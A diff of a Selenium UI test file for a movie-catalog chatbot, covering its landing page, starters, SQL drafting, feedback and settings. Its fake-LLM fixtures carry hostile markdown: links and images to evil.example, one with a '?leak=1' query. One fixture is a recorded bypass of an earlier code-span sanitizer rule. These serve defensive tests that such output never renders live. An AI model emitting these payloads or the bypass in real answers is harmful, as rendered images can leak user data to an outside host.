@@ -7,7 +7,6 @@ Each test saves a screenshot under its tmp_path (`*.png`) and the app log (`app.
 from __future__ import annotations
 
 import json
-import re
 import time
 from collections.abc import Iterator
 from pathlib import Path
@@ -25,7 +24,8 @@ from ui_fixtures import (
     wait_for,
 )
 
-from chatbot import examples
+from chatbot import examples, landing
+from chatbot.render import HOW_FOUND
 from retrieval.database import make_engine
 from retrieval.ingest import ingest_demo
 from retrieval.schema import create_schema
@@ -37,22 +37,24 @@ pytestmark = [
 ]
 
 MODEL = "fake-ui:1b"
-SQL_QUESTION = "Steven Spielberg films from the 1990s"  # the "Structured question" starter
-PLOT_QUESTION = "A timid clownfish crosses the ocean to find his son"
+SQL_QUESTION = "What is the average running time of Steven Spielberg films?"  # an aggregate: drafted SQL
 DRAFTED_SQL = (
     "SELECT id, title, year, director, genres FROM movies WHERE director ILIKE '%spielberg%' "
     "AND year BETWEEN 1990 AND 1999 ORDER BY year LIMIT 50"
 )
 ANSWER = "Jurassic Park (1993) is the pick: dinosaurs on an island. [more](http://evil.example/x) ![p](http://evil.example/p.png)"
 ANSWER_SHOWN = "Jurassic Park (1993) is the pick: dinosaurs on an island."
-NEMO_ANSWER = "Finding Nemo (2003) is the one: a clownfish father crosses the ocean."
+# issue 14's bypass of the old code-span rule: one backtick "closed" by two
+GENERIC = "Here is what your catalog has. ` ![q](http://evil.example/q.png?leak=1) ``"
+GENERIC_SHOWN = "Here is what your catalog has."
 
 
 def _reply(request) -> str:
-    """SQL drafting asks for JSON; everything else gets the answer naming a demo title."""
+    """SQL drafting asks for JSON; the Spielberg question gets an answer naming a demo title; any
+    other question a title-free answer carrying hostile markdown."""
     if request.format:
         return json.dumps({"sql": DRAFTED_SQL})
-    return NEMO_ANSWER if "clownfish" in request.last_user else ANSWER
+    return ANSWER if "Spielberg" in request.last_user else GENERIC
 
 
 @pytest.fixture(scope="module")
@@ -90,105 +92,146 @@ def _wait_answer(driver, text: str, shot: Path, count: int = 1) -> None:
         "css selector", ".positive-feedback-off, .positive-feedback-on"), what=f"answer {text!r}", screenshot=shot)
 
 
-def test_streamed_answer_steps_cards_feedback_and_resume(app_with_llm, demo_db, fake_llm, tmp_path):
+def _facts(url: str) -> landing.CatalogFacts:
+    engine = make_engine(url)
+    try:
+        return landing.catalog_facts(engine)
+    finally:
+        engine.dispose()
+
+
+def _starters(driver) -> list[str]:
+    return [b.text.strip() for b in driver.find_elements("css selector", "#starters button")]
+
+
+def _how_found(driver) -> str:
+    """Open the newest "How I found this" step and return the page text."""
+    steps = driver.find_elements("id", f"step-{HOW_FOUND}")
+    click(driver, steps[-1])
+    time.sleep(0.5)
+    return page_text(driver)
+
+
+def _no_horizontal_overflow(driver) -> bool:
+    return bool(driver.execute_script(
+        "return document.documentElement.scrollWidth <= document.documentElement.clientWidth + 1"))
+
+
+def test_landing_shows_name_catalog_line_and_starters_from_the_catalog(app_with_llm, demo_db, tmp_path):
+    facts = _facts(demo_db)
+    shot = tmp_path / "landing.png"
+    with chromium(tmp_path) as driver:
+        driver.get(app_with_llm)
+        about = wait_for(driver, lambda: driver.find_elements("id", "mr-about"), what="landing line", screenshot=shot)[0]
+        assert about.text.startswith(f"{facts.movies:,} films in your catalog")
+        assert f"LLM: {MODEL}" in about.text
+        assert _starters(driver) == [q for _, q in landing.starters(facts)]
+        assert facts.popular and f"Movies like {facts.popular}" in _starters(driver)
+        assert driver.title == landing.APP_NAME or landing.APP_NAME in driver.page_source
+        assert "LLMs can make mistakes" not in page_text(driver)
+        driver.save_screenshot(str(shot))
+
+
+def test_one_view_per_answer_kind_how_i_found_this_and_settings(app_with_llm, demo_db, tmp_path):
+    facts = _facts(demo_db)
+    question = f"Movies like {facts.popular}"
+    shot = tmp_path / "kinds.png"
+    with chromium(tmp_path) as driver:
+        driver.get(app_with_llm)
+        click(driver, wait_for(driver, lambda: [b for b in driver.find_elements("css selector", "#starters button")
+                                                if b.text.strip() == question], what="starter", screenshot=shot)[0])
+        _wait_answer(driver, GENERIC_SHOWN, shot)
+        # the hostile markdown never becomes a live image or link
+        assert not driver.find_elements("css selector", "a[href*='evil.example'], img[src*='evil.example']")
+        # k = 8 similar films: a long set -> the table, unfolded; no cards, no Sources line
+        rows = driver.find_elements("css selector", "[data-testid=rows-table] tbody tr")
+        assert len(rows) == 8 and not driver.find_elements("css selector", "[data-testid=movie-cards]")
+        assert "Sources:" not in page_text(driver)
+        th = driver.find_elements("css selector", "[data-testid=rows-table] td")
+        assert th and all(td.value_of_css_property("font-weight") in ("400", "normal") for td in th[1:4])
+        text = _how_found(driver)
+        assert "Nearest films: k = 8, metric cosine" in text and "SQL that ran (from the plan)" in text
+        assert not driver.find_elements("id", "step-understand")  # node names only in the debug view
+        driver.save_screenshot(str(shot))
+
+        # settings: k 3 and the l2 metric -> cards, and the panel says what was used
+        click(driver, driver.find_element("id", "chat-settings-open-modal"))
+        slider = wait_for(driver, lambda: driver.find_elements("css selector", "[role=slider]"))[0]
+        for _ in range(5):
+            slider.send_keys("\ue012")  # arrow left: k 8 -> 3
+        click(driver, driver.find_element("id", "metric"))
+        click(driver, wait_for(driver, lambda: [o for o in driver.find_elements("css selector", "[role=option]")
+                                                if o.text.strip() == "l2"], what="l2 option")[0])
+        click(driver, driver.find_element("id", "confirm"))
+        time.sleep(0.5)
+        driver.find_element("id", "chat-input").send_keys(question)
+        click(driver, driver.find_element("id", "chat-submit"))
+        _wait_answer(driver, GENERIC_SHOWN, shot, count=2)
+        cards = wait_for(driver, lambda: driver.find_elements("css selector", "[data-testid=movie-cards] .mr-card"))
+        assert len(cards) == 3
+        # no poster can load here: every card shows the placeholder, never a broken image
+        assert len(driver.find_elements("css selector", "[data-testid=movie-cards] .mr-placeholder")) == 3
+        assert "Nearest films: k = 3, metric l2" in _how_found(driver)
+        driver.save_screenshot(str(tmp_path / "cards.png"))
+
+        # a phone: nothing sideways
+        driver.set_window_size(390, 844)
+        time.sleep(1)
+        assert _no_horizontal_overflow(driver)
+        driver.save_screenshot(str(tmp_path / "phone.png"))
+
+
+def test_sql_answer_feedback_keeps_the_checked_sql_per_person_and_resumes(app_with_llm, demo_db, fake_llm, tmp_path):
     shot = tmp_path / "answer.png"
     with chromium(tmp_path) as driver:
         driver.get(app_with_llm)
-        click(driver, wait_for(driver, lambda: driver.find_elements("id", "starter-structured-question"),
-                               what="starters", screenshot=shot)[0])
+        box = wait_for(driver, lambda: driver.find_elements("id", "chat-input"), what="composer", screenshot=shot)[0]
+        box.send_keys(SQL_QUESTION)
+        click(driver, driver.find_element("id", "chat-submit"))
         _wait_answer(driver, ANSWER_SHOWN, shot)
-        text = page_text(driver)
-        assert "Sources: [1] Jurassic Park (1993)" in text
-        # one collapsible step per node the SQL path ran
-        for node in ("understand", "embed", "draft_sql", "check_sql", "run_sql", "generate", "check_citations"):
-            assert driver.find_elements("id", f"step-{node}"), node
-        click(driver, driver.find_element("id", "step-check_sql"))
-        wait_for(driver, lambda: "Guard verdict: accepted" in page_text(driver), what="guard verdict")
-        # catalog/model text never becomes a live link or a remote image
         assert not driver.find_elements("css selector", "a[href*='evil.example'], img[src*='evil.example']")
-        assert "http://evil.example/p.png" in page_text(driver)
-        # movie cards with the cited row first, and the rows table
-        cards = driver.find_elements("css selector", "[data-testid=movie-cards] .mr-card")
-        assert cards and cards[0].text.startswith("Jurassic Park (1993)") and "cited [1]" in cards[0].text
-        click(driver, driver.find_element("css selector", ".mr-table-toggle"))
-        rows = wait_for(driver, lambda: driver.find_elements("css selector", "[data-testid=rows-table] tbody tr"))
-        assert any("Jurassic Park" in r.text and "[1]" in r.text for r in rows)
+        text = _how_found(driver)
+        assert "SQL that ran (drafted, checked)" in text and "director ILIKE" in text
         thread_url = driver.current_url
         assert "/thread/" in thread_url
 
-        # thumbs up on the SQL answer -> a verified example ...
+        # thumbs up on the SQL answer -> this person's verified example, in the guard's form ...
         click(driver, driver.find_elements("css selector", ".positive-feedback-off")[-1])
         click(driver, wait_for(driver, lambda: driver.find_elements("id", "submit-feedback"))[0])
         wait_for(driver, lambda: driver.find_elements("css selector", ".positive-feedback-on"), what="thumbs up")
         engine = make_engine(demo_db)
+        kept = examples.example_sql(DRAFTED_SQL)
         try:
-            wait_for(driver, lambda: examples.examples_for(engine, "user:local") == [(SQL_QUESTION, examples.example_sql(DRAFTED_SQL))],
+            wait_for(driver, lambda: examples.examples_for(engine, "user:local") == [(SQL_QUESTION, kept)],
                      timeout=15, what="verified example stored")
+            assert examples.examples_for(engine, None) == []  # not shown to anyone else
         finally:
             engine.dispose()
-        driver.save_screenshot(str(shot))
 
         # ... that the next SQL draft is shown as a few-shot example
         before = len(fake_llm.chat_requests(MODEL))
-        box = driver.find_element("id", "chat-input")
-        box.send_keys("Steven Spielberg films from the 2000s")
+        follow = "What is the average running time of Steven Spielberg films per decade?"
+        driver.find_element("id", "chat-input").send_keys(follow)
         click(driver, driver.find_element("id", "chat-submit"))
         _wait_answer(driver, ANSWER_SHOWN, shot, count=2)
         drafts = [r for r in fake_llm.chat_requests(MODEL)[before:] if r.format]
         assert drafts, "no SQL drafting request"
         contents = [m["content"] for m in drafts[0].messages]
         i = contents.index(SQL_QUESTION)
-        assert json.loads(contents[i + 1]) == {"sql": DRAFTED_SQL}
-        assert contents[-1] == "Steven Spielberg films from the 2000s"
+        assert json.loads(contents[i + 1]) == {"sql": kept}
 
         # history: a new chat, then the thread from the sidebar comes back with its messages
         click(driver, driver.find_element("id", "new-chat-button"))
-        wait_for(driver, lambda: driver.find_elements("id", "starter-structured-question"), what="new chat")
+        wait_for(driver, lambda: driver.find_elements("id", "starters"), what="new chat")
         thread_id = thread_url.rsplit("/", 1)[-1]
         link = wait_for(driver, lambda: [a for a in driver.find_elements("css selector", "a[href]")
                                          if thread_id in a.get_attribute("href")], what="thread in sidebar")[0]
         click(driver, link)
-        wait_for(driver, lambda: page_text(driver).count(ANSWER_SHOWN) == 2 and driver.find_elements(
-            "css selector", "[data-testid=movie-cards]"), what="resumed thread", screenshot=shot)
+        wait_for(driver, lambda: page_text(driver).count(ANSWER_SHOWN) == 2, what="resumed thread", screenshot=shot)
         resumed = page_text(driver)
-        assert SQL_QUESTION in resumed and "Steven Spielberg films from the 2000s" in resumed
+        assert SQL_QUESTION in resumed and follow in resumed
         assert driver.find_elements("css selector", ".positive-feedback-on")  # the thumbs came back too
         driver.save_screenshot(str(tmp_path / "resumed.png"))
-
-
-def test_chat_settings_apply_to_the_next_question(app_with_llm, fake_llm, tmp_path):
-    shot = tmp_path / "settings.png"
-    with chromium(tmp_path) as driver:
-        driver.get(app_with_llm)
-        click(driver, wait_for(driver, lambda: driver.find_elements("id", "chat-settings-open-modal"),
-                               what="settings button", screenshot=shot)[0])
-        models = wait_for(driver, lambda: driver.find_elements("id", "models"))[0]
-        models.clear()
-        models.send_keys("missing-ui:1b, " + MODEL)
-        click(driver, driver.find_element("id", "sql_mode"))  # SQL mode off
-        slider = driver.find_element("css selector", "[role=slider]")
-        for _ in range(5):
-            slider.send_keys("\ue012")  # arrow left: k 8 -> 3
-        click(driver, driver.find_element("id", "confirm"))
-        time.sleep(0.5)
-        # k = 3 (a plot search retrieves k rows) and the model order (the missing model falls back)
-        driver.find_element("id", "chat-input").send_keys(PLOT_QUESTION)
-        click(driver, driver.find_element("id", "chat-submit"))
-        _wait_answer(driver, NEMO_ANSWER, shot)
-        assert "Sources: [1] Finding Nemo (2003)" in page_text(driver)
-        click(driver, driver.find_element("id", "step-retrieve"))
-        wait_for(driver, lambda: re.search(r"(?m)^3 rows retrieved: ", page_text(driver)), what="k = 3", screenshot=shot)
-        click(driver, driver.find_element("id", "step-generate"))
-        wait_for(driver, lambda: "Model: " + MODEL in page_text(driver), what="model line", screenshot=shot)
-        assert "Fallbacks: missing-ui:1b (model not found)" in page_text(driver)
-        assert [r.model for r in fake_llm.chat_requests()][-2:] == ["missing-ui:1b", MODEL]
-        # SQL mode off: a structured question is answered by retrieval, with no SQL drafted
-        driver.find_element("id", "chat-input").send_keys(SQL_QUESTION)
-        click(driver, driver.find_element("id", "chat-submit"))
-        _wait_answer(driver, ANSWER_SHOWN, shot)
-        assert len(driver.find_elements("id", "step-retrieve")) == 2
-        assert not driver.find_elements("id", "step-draft_sql")
-        driver.save_screenshot(str(shot))
 
 
 def test_no_llm_answers_from_the_catalog_and_errors_read_well(demo_db, tmp_path):
@@ -197,13 +240,18 @@ def test_no_llm_answers_from_the_catalog_and_errors_read_well(demo_db, tmp_path)
                   MOVIE_RAG_HOME=str(tmp_path / "home"))
     with running_app(env, tmp_path) as url, chromium(tmp_path) as driver:
         driver.get(url)
-        click(driver, wait_for(driver, lambda: driver.find_elements("id", "starter-similar-to-a-title"),
-                               what="starters", screenshot=shot)[0])
-        _wait_answer(driver, "Films in your catalog closest to Alien (1979):", shot)
+        about = wait_for(driver, lambda: driver.find_elements("id", "mr-about"), what="landing line", screenshot=shot)[0]
+        assert "Answering from the catalog: no LLM reachable" in about.text
+        click(driver, driver.find_elements("css selector", "#starters button")[0])
+        wait_for(driver, lambda: driver.find_elements("css selector", ".positive-feedback-off"), what="answer", screenshot=shot)
         text = page_text(driver)
         assert "Answering from the catalog without an LLM (no LLM reachable)." in text
-        assert "Sources: [1] " in text
         assert "Traceback" not in text
+        # what needs an LLM is disabled, with the reason
+        click(driver, driver.find_element("id", "chat-settings-open-modal"))
+        sql_mode = wait_for(driver, lambda: driver.find_elements("id", "sql_mode"))[0]
+        assert sql_mode.get_attribute("disabled") is not None or sql_mode.get_attribute("data-disabled") is not None
+        assert "no LLM reachable" in page_text(driver)
         driver.save_screenshot(str(shot))
 
     # The database down: a readable sentence in the chat, twice (the session stays usable).
